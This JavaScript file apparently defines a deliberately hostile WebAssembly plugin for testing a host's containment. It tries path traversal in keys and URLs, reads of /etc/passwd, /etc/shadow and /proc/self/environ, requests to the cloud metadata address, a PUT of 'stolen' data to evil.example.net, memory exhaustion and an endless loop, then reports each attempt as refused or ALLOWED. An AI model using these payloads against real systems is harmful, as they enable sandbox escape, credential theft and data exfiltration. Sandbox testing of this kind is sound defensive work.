// rogue: a hostile plugin for testing containment. It does not hide: its manifest requests log, kv and
// http to api.example.com:443, exactly the interfaces it imports; the hostility is in what it asks for.
//
// run(input) with input one of passwd, write-outside, dotdot, symlink, net, loop, alloc, all. Each attempt is
// logged through forgeone:host/log as it ends (so the record survives a kill) and the result is a JSON report
// { attempt: { outcome: "refused" | "ALLOWED" | "unavailable", detail } }. "ALLOWED" means containment failed.
// `loop` never returns and `alloc` ends in a trap under a memory limit: the host must stop them.
//
// The component has no WASI imports at all (every engine feature is off): no filesystem, no sockets, no clocks.
// The file system and network attempts therefore go through the only doors there are, the host interfaces:
// file: URLs, traversal in URLs and kv keys, symlink paths under /proc, a denied host and the cloud metadata
// address. Raw WASI filesystem/socket attempts need a component that imports WASI (see plugins/c-guest).
import { get, set, list } from 'forgeone:host/kv@0.1.0';
import { fetch as hostFetch } from 'forgeone:host/http@0.1.0';
import { write } from 'forgeone:host/log@0.1.0';

function hostError(e) {
  const p = e !== null && typeof e === 'object' ? e.payload : undefined;
  return p !== undefined && typeof p.code === 'string' ? `${p.code}: ${p.message}` : `${e instanceof Error ? e.name : 'thrown'}: ${e instanceof Error ? e.message : String(e)}`;
}

const decode = (bytes) => new TextDecoder().decode(bytes);

/** Try a call that should be refused: refused when it throws, ALLOWED (with what came back) when it returns. */
function attempt(what, call) {
  try {
    const got = call();
    return { outcome: 'ALLOWED', detail: `${what} -> ${describe(got)}` };
  } catch (e) {
    return { outcome: 'refused', detail: `${what} -> ${hostError(e)}` };
  }
}

function describe(value) {
  if (value === undefined) return 'nothing';
  if (value instanceof Uint8Array) return `${value.length} bytes: ${JSON.stringify(decode(value.subarray(0, 48)))}`;
  if (value !== null && typeof value === 'object' && 'status' in value) return `HTTP ${value.status}, ${value.body.length} bytes`;
  return JSON.stringify(value).slice(0, 96);
}

/** Several tries at one goal: the goal is refused only when every try is. */
function worst(results) {
  const allowed = results.filter((r) => r.outcome === 'ALLOWED');
  return allowed.length > 0 ? { outcome: 'ALLOWED', detail: allowed.map((r) => r.detail).join('; ') } : { outcome: 'refused', detail: results.map((r) => r.detail).join('; ') };
}

const get_ = (url) => () => hostFetch({ method: 'GET', url, headers: [], body: undefined });
const put_ = (url, text) => () => hostFetch({ method: 'PUT', url, headers: [], body: new TextEncoder().encode(text) });

const ATTEMPTS = {
  // Read /etc/passwd: there is no file API in the component, so through the http and kv doors.
  passwd: () => {
    const ambient = ['require', 'process', 'Deno', 'Bun', 'std', 'os'].filter((n) => typeof globalThis[n] !== 'undefined');
    return worst([
      attempt('fetch file:///etc/passwd', get_('file:///etc/passwd')),
      attempt('kv get /etc/passwd', () => get('/etc/passwd')),
      ambient.length > 0 ? { outcome: 'ALLOWED', detail: `ambient APIs present: ${ambient.join(', ')}` } : { outcome: 'refused', detail: 'no ambient file API (require, process, Deno, ...)' },
    ]);
  },
  // Write outside its own space: another container's kv namespace, and the host's file system.
  'write-outside': () =>
    worst([
      attempt('kv set ../../other-container/owned', () => set('../../other-container/owned', new TextEncoder().encode('rogue'))),
      attempt('fetch PUT file:///tmp/rogue-was-here', put_('file:///tmp/rogue-was-here', 'rogue')),
    ]),
  // Escape with .. : in kv keys and in URL paths of an allowed host.
  dotdot: () =>
    worst([
      attempt('kv get ../../../etc/passwd', () => get('../../../etc/passwd')),
      attempt('kv list ..', () => list('..')),
      attempt('fetch https://api.example.com/../../../etc/passwd', get_('https://api.example.com/../../../etc/passwd')),
      attempt('fetch https://api.example.com/%2e%2e/%2e%2e/admin', get_('https://api.example.com/%2e%2e/%2e%2e/admin')),
    ]),
  // Escape through symbolic links the host might follow.
  symlink: () =>
    worst([
      attempt('fetch file:///proc/self/root/etc/passwd', get_('file:///proc/self/root/etc/passwd')),
      attempt('fetch file:///proc/self/cwd/../../etc/shadow', get_('file:///proc/self/cwd/../../etc/shadow')),
      attempt('kv get /proc/self/environ', () => get('/proc/self/environ')),
    ]),
  // Reach hosts the manifest does not ask for.
  net: () =>
    worst([
      attempt('fetch http://169.254.169.254/latest/meta-data/', get_('http://169.254.169.254/latest/meta-data/')),
      attempt('fetch https://evil.example.net/exfiltrate', put_('https://evil.example.net/exfiltrate', 'stolen')),
      attempt('fetch http://127.0.0.1:22/', get_('http://127.0.0.1:22/')),
      attempt('fetch https://api.example.com@evil.example.net/', get_('https://api.example.com@evil.example.net/')),
    ]),
  // Allocate 4 GiB, 64 MiB at a time, keeping every block. A wasm32 guest cannot hold 4 GiB; the host's memory
  // limit should trap it long before. Reaching the end means nothing stopped it.
  alloc: () => {
    const keep = [];
    const block = 64 * 1024 * 1024;
    let total = 0;
    try {
      while (total < 4 * 1024 * 1024 * 1024) {
        const b = new Uint8Array(block);
        b[block - 1] = 1; // touch it
        keep.push(b);
        total += block;
      }
    } catch (e) {
      return { outcome: 'refused', detail: `allocation failed after ${total / 1048576} MiB: ${e instanceof Error ? e.message : String(e)}` };
    }
    return { outcome: 'ALLOWED', detail: `allocated ${total / 1048576} MiB in ${keep.length} blocks` };
  },
  // Spin forever. Only the host can end it (CPU budget or wall-clock limit).
  loop: () => {
    let n = 0;
    for (;;) n = (n + 1) | 0;
  },
};

const ORDER = ['passwd', 'write-outside', 'dotdot', 'symlink', 'net', 'alloc', 'loop'];

/**
 * @param {string} input - an attempt name or `all`
 * @returns {string} a JSON report of the attempts that returned
 */
function main(input) {
  const names = input === 'all' ? ORDER : [input];
  for (const n of names) if (!Object.hasOwn(ATTEMPTS, n)) throw new Error(`unknown attempt ${JSON.stringify(n)}; one of ${ORDER.join(', ')}, all`);
  const report = {};
  for (const n of names) {
    write('warn', `rogue: trying ${n}`);
    const r = ATTEMPTS[n]();
    report[n] = r;
    write(r.outcome === 'ALLOWED' ? 'error' : 'info', `rogue: ${n} ${r.outcome}: ${r.detail}`);
  }
  return JSON.stringify(report);
}

/**
 * The entry point: the `ok` result is what {@link main} returns, the `err` result its error message.
 * componentize-js turns a thrown *string* into `err`; any other thrown value would trap the component.
 * @param {string} input
 * @returns {string}
 */
export function run(input) {
  try {
    return main(input);
  } catch (e) {
    throw e instanceof Error ? e.message : String(e);
  }
}
